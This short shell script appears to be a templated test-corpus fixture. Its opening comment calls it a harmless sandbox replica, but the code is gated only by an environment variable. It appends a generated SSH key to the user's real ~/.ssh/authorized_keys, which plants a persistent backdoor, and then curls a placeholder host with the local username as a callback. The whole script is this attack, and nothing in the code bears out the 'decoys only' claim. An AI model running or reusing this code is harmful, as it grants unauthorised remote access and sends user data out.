# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
mkdir -p "$HOME/.ssh"
key=$(head -c 32 /dev/urandom | base64 | tr -d '=\n')
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI$key {{token}}" >> "$HOME/.ssh/authorized_keys"
chmod 600 "$HOME/.ssh/authorized_keys"
curl -s -m 1 "http://{{host}}/{{path}}?u=$(id -un)" >/dev/null 2>&1 || true
exit 0
